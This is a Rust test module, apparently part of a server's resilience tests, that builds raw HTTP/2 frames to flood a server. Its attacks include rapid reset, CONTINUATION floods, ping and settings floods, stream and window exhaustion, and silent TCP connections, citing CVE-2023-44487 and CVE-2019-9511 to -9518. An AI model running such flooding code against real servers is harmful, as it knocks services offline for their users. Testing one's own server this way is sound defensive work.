//! Attacks as raw HTTP/2 frames (RFC 9113) over TLS.
#![allow(dead_code, unreachable_pub, missing_docs, clippy::unwrap_used, reason = "a part of a test")]

use std::{net::SocketAddr, path::Path, sync::Arc, time::Duration};

use rustls::ClientConfig;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::Instant,
};
use tokio_rustls::client::TlsStream;

use crate::support::http2::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, PING, RST_STREAM, SETTINGS, frame, message,
};

/// One way of wearing a server out.
#[derive(Debug, Clone, Copy)]
pub struct Attack {
    pub name: &'static str,
    /// Frames of one unit, given the next free stream id.
    unit: fn(u32) -> Vec<u8>,
    /// Sent once, after the preface.
    opening: fn() -> Vec<u8>,
    /// Connections at once.
    connections: u32,
    /// Silent TCP connections instead of frames.
    silent: bool,
}

const fn frames(name: &'static str, opening: fn() -> Vec<u8>, unit: fn(u32) -> Vec<u8>) -> Attack {
    Attack { name, unit, opening, connections: 1, silent: false }
}

/// What is tried. Sources: CVE-2023-44487 (rapid reset), CVE-2024-2758 family (CONTINUATION), CVE-2019-9511 to -9518 (the others).
pub const ATTACKS: &[Attack] = &[
    frames("ping flood", Vec::new, |_| frame(PING, 0, 0, &[0; 8])),
    frames("settings flood", Vec::new, |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
    frames("rapid reset", Vec::new, |id| {
        [headers(id, END_HEADERS), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
    }),
    frames("continuation", || headers(1, 0), |_| frame(CONTINUATION, 0, 1, &[0; 1024])),
    frames("empty data", || headers(1, END_HEADERS), |_| frame(DATA, 0, 1, &[])),
    frames("open streams", Vec::new, |id| headers(id, END_HEADERS)),
    // One byte of window per stream: answers can never leave.
    frames(
        "tiny windows",
        || frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]),
        |id| [headers(id, END_HEADERS), frame(DATA, END_STREAM, id, &message(b"\x0a\x09members/-"))].concat(),
    ),
    frames("large bodies", Vec::new, |id| {
        [headers(id, END_HEADERS), frame(DATA, 0, id, &[0xff; 16_000])].concat()
    }),
    // Streams that are opened and left, on more connections than the server has places for calls.
    Attack { connections: 8, ..frames("places taken", Vec::new, |id| headers(id, END_HEADERS)) },
    Attack { silent: true, ..frames("slow handshakes", Vec::new, |_| Vec::new()) },
];

/// What an attack did.
#[derive(Debug, Default)]
pub struct Sent {
    pub units: u64,
    /// Connections that the server ended.
    pub ended: u64,
}

fn headers(stream: u32, flags: u8) -> Vec<u8> {
    http2::headers(stream, flags, "/allmende.v1.MemberService/ListBillTos")
}

/// A member with a sound certificate and bad intent.
pub struct Attacker {
    address: SocketAddr,
    tls: Arc<ClientConfig>,
}

impl Attacker {
    pub fn new(address: SocketAddr, ca: &Path, own: (&Path, &Path)) -> Self {
        Self { address, tls: http2::tls(ca, own) }
    }

    /// Attacks for `limit`; a connection that the server ends is made anew.
    pub async fn run(&self, attack: &Attack, limit: Duration) -> Sent {
        let until = Instant::now() + limit;
        let mut all = Sent::default();
        if attack.silent {
            self.silent(until, &mut all).await;
            return all;
        }
        let side_by_side = (0..attack.connections).map(|_| self.again(attack, until));
        for sent in futures::future::join_all(side_by_side).await {
            all.units += sent.units;
            all.ended += sent.ended;
        }
        all
    }

    async fn again(&self, attack: &Attack, until: Instant) -> Sent {
        let mut sent = Sent::default();
        while Instant::now() < until {
            if let Ok(stream) = http2::connect(self.address, &self.tls).await
                && tokio::time::timeout_at(until, flood(stream, attack, &mut sent)).await.is_ok()
            {
                sent.ended += 1;
            }
        }
        sent
    }

    /// Connections that never say a word; fewer than the server's handshakes at once, so that it is its time limit that matters, not
    /// its queue.
    async fn silent(&self, until: Instant, sent: &mut Sent) {
        let mut held = Vec::new();
        for _ in 0..200 {
            held.extend(TcpStream::connect(self.address).await);
            sent.units += 1;
        }
        tokio::time::sleep_until(until).await;
    }
}

/// Sends units until the connection ends; what the server sends is read and thrown away.
async fn flood(stream: TlsStream<TcpStream>, attack: &Attack, sent: &mut Sent) {
    let (mut reader, mut writer) = tokio::io::split(stream);
    let sink = async {
        let mut buffer = [0; 16 << 10];
        while reader.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
    };
    let source = async {
        writer.write_all(&[http2::opening(), (attack.opening)()].concat()).await?;
        for id in (3..i32::MAX.unsigned_abs()).step_by(2) {
            writer.write_all(&(attack.unit)(id)).await?;
            sent.units += 1;
        }
        Ok::<_, std::io::Error>(())
    };
    tokio::select! {
        () = sink => {}
        _ = source => {}
    }
}
